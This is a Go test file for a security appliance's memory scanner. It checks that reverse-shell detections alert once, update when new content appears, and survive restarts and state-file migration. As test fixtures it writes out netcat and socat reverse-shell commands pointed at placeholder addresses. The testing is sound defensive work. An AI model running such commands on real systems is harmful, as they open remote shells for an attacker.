package supervisor

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/domainm/domainm/appliance/internal/alert"
)

// The shipped reverse-shell rules, and what two attacks leave in a guest's memory.
const (
	shellRule  = "linux_reverse_shell_tools"
	ncLine     = "nc -e /bin/sh"
	socatLine  = "socat tcp:203.0.113.9:443 exec:/bin/sh"
	socatMatch = "socat tcp:203.0.113.9:443 exec:" // what the rule's $socat matches
	ncAt       = 1<<20 + 0x123
	socatAt    = 2<<20 + 0x456
)

// shippedRules returns a rules folder holding the named files of rules/yara.
func shippedRules(t *testing.T, names ...string) string {
	t.Helper()
	dir := t.TempDir()
	for _, n := range names {
		b, err := os.ReadFile(filepath.Join("..", "..", "..", "rules", "yara", n))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, n), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// quiet checks that no alert for rule came after the first n.
func (h *harness) quiet(rule string, n int, why string) {
	h.t.Helper()
	var got []string
	for _, e := range h.alerts.all() {
		if e.Rule != nil && e.Rule.Name == rule {
			got = append(got, e.Event.Action+": "+e.Message)
		}
	}
	if len(got) > n {
		h.t.Errorf("%s: %d more alerts for %s, want none:\n  %s", why, len(got)-n, rule, strings.Join(got[n:], "\n  "))
	}
}

func (r *recorder) all() []alert.Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]alert.Event(nil), r.events...)
}

func ruleAlerts(h *harness, rule string) int {
	n := 0
	for _, e := range h.alerts.all() {
		if e.Rule != nil && e.Rule.Name == rule {
			n++
		}
	}
	return n
}

// TestSecondAttackBehindFirst: with nc -e already alerted under the reverse-shell rule,
// a socat reverse shell in the same guest is new content and alerts (memory-match-updated,
// same finding id, naming only what is new). The same content copied or moved in RAM
// alerts nothing; a socat to another address is new again.
func TestSecondAttackBehindFirst(t *testing.T) {
	h := newHarness(t, harnessOpts{rulesDir: shippedRules(t, "linux_reverse_shell.yar")})
	h.waitFor("first pass", func() bool { return h.passes() >= 1 })
	h.poke(ncAt, ncLine)
	h.tick()
	news := h.alerts.with("memory-match", shellRule)
	if len(news) != 1 {
		t.Fatalf("%d memory-match alerts for nc, want 1:\n%s", len(news), h.alerts.dump())
	}

	h.poke(socatAt, socatLine)
	h.tick()
	up := h.alerts.with("memory-match-updated", shellRule)
	if len(up) != 1 {
		t.Fatalf("socat behind nc: %d memory-match-updated alerts, want 1:\n%s", len(up), h.alerts.dump())
	}
	u := up[0]
	if u.DomainM.FindingID != news[0].DomainM.FindingID || u.DomainM.State != "updated" {
		t.Errorf("updated alert: finding id %s state %q, want %s updated", u.DomainM.FindingID, u.DomainM.State, news[0].DomainM.FindingID)
	}
	if m := u.DomainM.Matches; len(m) != 1 || m[0].Name != "$socat" || m[0].DataText != socatMatch || m[0].Address != "0x200456" {
		t.Errorf("updated alert names %+v, want only $socat %q at 0x200456", m, socatMatch)
	}
	if !strings.Contains(u.Message, socatMatch) || u.Severity() != news[0].Severity() {
		t.Errorf("updated alert %q (severity %v) should quote the new content at the rule's severity %v", u.Message, u.Severity(), news[0].Severity())
	}
	n := ruleAlerts(h, shellRule)

	// The same content elsewhere: copied, and moved.
	h.poke(5<<20+77, ncLine)
	h.erase(socatAt, len(socatLine))
	h.poke(6<<20+0x999, socatLine)
	h.tick()
	h.tick()
	h.quiet(shellRule, n, "same content copied and moved")

	// Another socat is new content again.
	h.poke(4<<20+8, "socat TCP4:198.51.100.7:8443 EXEC:/bin/bash")
	h.tick()
	if up := h.alerts.with("memory-match-updated", shellRule); len(up) != 2 || up[1].DomainM.Matches[0].DataText != "socat TCP4:198.51.100.7:8443 EXEC:" {
		t.Fatalf("a second socat: %d updated alerts, want 2:\n%s", len(up), h.alerts.dump())
	}
	n = ruleAlerts(h, shellRule)

	// All gone: one gone, with the finding's id.
	h.erase(ncAt, len(ncLine))
	h.erase(5<<20+77, len(ncLine))
	h.erase(6<<20+0x999, len(socatLine))
	h.erase(4<<20+8, 40)
	h.tick()
	gone := h.alerts.with("memory-match-gone", shellRule)
	if len(gone) != 1 || gone[0].DomainM.FindingID != news[0].DomainM.FindingID || ruleAlerts(h, shellRule) != n+1 {
		t.Errorf("after erasing everything: %d gone alerts, want 1 with the finding's id:\n%s", len(gone), h.alerts.dump())
	}
}

// TestContentSurvivesRestart: the content a finding has reported is remembered across
// a restart: nothing is re-alerted, and new content still alerts.
func TestContentSurvivesRestart(t *testing.T) {
	h := newHarness(t, harnessOpts{rulesDir: shippedRules(t, "linux_reverse_shell.yar")})
	h.waitFor("first pass", func() bool { return h.passes() >= 1 })
	h.poke(ncAt, ncLine)
	h.tick()
	h.poke(socatAt, socatLine)
	h.tick()
	if len(h.alerts.with("memory-match-updated", shellRule)) != 1 {
		t.Fatalf("no updated alert before the restart:\n%s", h.alerts.dump())
	}
	h.restart()
	h.waitFor("first pass after restart", func() bool { return h.passes() >= 1 })
	h.tick()
	h.quiet(shellRule, 0, "after a restart")
	h.poke(4<<20+8, "nc -e /bin/bash")
	h.tick()
	up := h.alerts.with("memory-match-updated", shellRule)
	if len(up) != 1 || up[0].DomainM.Matches[0].DataText != "nc -e /bin/bash" {
		t.Errorf("new content after a restart: %d updated alerts, want 1:\n%s", len(up), h.alerts.dump())
	}
}

// TestStateFileV1Migrated: a state file written before findings remembered their content
// (testdata/memory-findings-v1.json, written by that code for nc -e at 0x100123) is
// read: its finding is not re-alerted, content it did not report alerts as updated, and
// the file is rewritten in the current format.
func TestStateFileV1Migrated(t *testing.T) {
	h := newHarness(t, harnessOpts{rulesDir: shippedRules(t, "linux_reverse_shell.yar")})
	h.stop()
	old, err := os.ReadFile(filepath.Join("testdata", "memory-findings-v1.json"))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(h.cfg.State.Dir, memoryStateFile)
	if err := os.WriteFile(path, old, 0o600); err != nil {
		t.Fatal(err)
	}
	h.poke(ncAt, ncLine)
	h.poke(socatAt, socatLine)
	h.restart()
	h.waitFor("first pass", func() bool { return h.passes() >= 1 })
	if n := len(h.alerts.with("memory-match", shellRule)); n != 0 {
		t.Errorf("the finding of the old state file was alerted again (%d):\n%s", n, h.alerts.dump())
	}
	up := h.alerts.with("memory-match-updated", shellRule)
	if len(up) != 1 || len(up[0].DomainM.Matches) != 1 || up[0].DomainM.Matches[0].Name != "$socat" {
		t.Fatalf("socat after migrating: %d updated alerts, want 1 naming $socat:\n%s", len(up), h.alerts.dump())
	}
	var st struct {
		Version  int `json:"version"`
		Findings []struct {
			Content []string `json:"content"`
		} `json:"findings"`
	}
	b, _ := os.ReadFile(path)
	if err := json.Unmarshal(b, &st); err != nil || st.Version != memoryStateVersion || len(st.Findings) != 1 || len(st.Findings[0].Content) != 2 {
		t.Errorf("state file not rewritten in version %d with 2 content keys (%v): %s", memoryStateVersion, err, b)
	}
}

// TestContentFull: a finding remembers at most maxContent distinct strings; the pass that
// fills it alerts once that further new content goes unalerted, and later new content
// alerts nothing (a guest spraying matching strings cannot make it alert every pass).
func TestContentFull(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	plant := func(from, to int, at int64) {
		for i := from; i < to; i++ {
			h.poke(at+int64(i-from)*16, fmt.Sprintf("SPRAY-%04d", i))
		}
	}
	plant(0, 10, 1<<20)
	h.writeRule("spray.yar", "rule spray { strings: $a = /SPRAY-[0-9]{4}/ condition: $a }\n")
	h.reloadDone("spray found", func() bool { return len(h.alerts.with("memory-match", "spray")) == 1 })
	h.waitFor("the reload's pass counted", func() bool { return h.passes() >= 2 }) // before tick reads the count
	// 290 more, in two windows (each keeps at most 256 matches per rule).
	plant(10, 150, 1<<20+10*16)
	plant(150, 300, 2<<20)
	h.tick()
	up := h.alerts.with("memory-match-updated", "spray")
	if len(up) != 1 || up[0].DomainM.MatchesN != maxContent-10 {
		t.Fatalf("%d updated alerts, want 1 naming %d new strings:\n%s", len(up), maxContent-10, h.alerts.dump())
	}
	if n := len(h.alerts.with("memory-finding-content-full", "")); n != 1 {
		t.Errorf("%d content-full alerts, want 1", n)
	}
	plant(300, 350, 6<<20)
	h.tick()
	h.tick()
	h.quiet("spray", 2, "new content past the limit")
	if n := len(h.alerts.with("memory-finding-content-full", "")); n != 1 {
		t.Errorf("%d content-full alerts after more content, want still 1", n)
	}
}
